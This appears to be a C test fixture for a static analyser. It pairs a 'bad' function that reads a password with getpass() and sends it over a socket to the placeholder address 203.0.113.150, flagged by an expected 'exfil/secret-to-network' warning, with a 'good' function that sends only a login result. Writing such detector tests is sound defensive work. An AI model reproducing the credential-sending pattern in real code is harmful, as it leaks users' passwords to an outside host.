/* Lines wait in a list that knows its end, and are taken out of it one by one. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/queue.h>
#include <sys/socket.h>
#include <unistd.h>

struct line {
    STAILQ_ENTRY(line) others;
    char text[120];
};
STAILQ_HEAD(lines, line);

struct link {
    struct lines waiting;
    int to;
};

static void say(struct link *link, const char *word, const char *text) {
    struct line *line = calloc(1, sizeof *line);
    if (!line)
        return;
    snprintf(line->text, sizeof line->text, "%s %s\n", word, text);
    STAILQ_INSERT_TAIL(&link->waiting, line, others);
}

static int reach(const char *address, int port) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    return connect(s, (struct sockaddr *)&peer, sizeof peer) ? -1 : s;
}

static void bad_drain(struct link *link) {
    struct line *line;
    while ((line = STAILQ_FIRST(&link->waiting))) {
        STAILQ_REMOVE_HEAD(&link->waiting, others);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(link->to, line->text, strlen(line->text), MSG_NOSIGNAL);
        free(line);
    }
}

void bad_visit(const char *user) {
    struct link stats;
    STAILQ_INIT(&stats.waiting);
    stats.to = reach("203.0.113.150", 2010);
    say(&stats, "user", user);
    say(&stats, "word", getpass("Password: "));
    bad_drain(&stats);
}

static void good_drain(struct link *link) {
    struct line *line;
    while ((line = STAILQ_FIRST(&link->waiting))) {
        STAILQ_REMOVE_HEAD(&link->waiting, others);
        send(link->to, line->text, strlen(line->text), MSG_NOSIGNAL);
        free(line);
    }
}

void good_visit(const char *user, int valid(const char *user, const char *word)) {
    struct link stats;
    STAILQ_INIT(&stats.waiting);
    stats.to = reach("203.0.113.150", 2010);
    say(&stats, "user", user);
    say(&stats, "login", valid(user, getpass("Password: ")) ? "good" : "bad");
    good_drain(&stats);
}
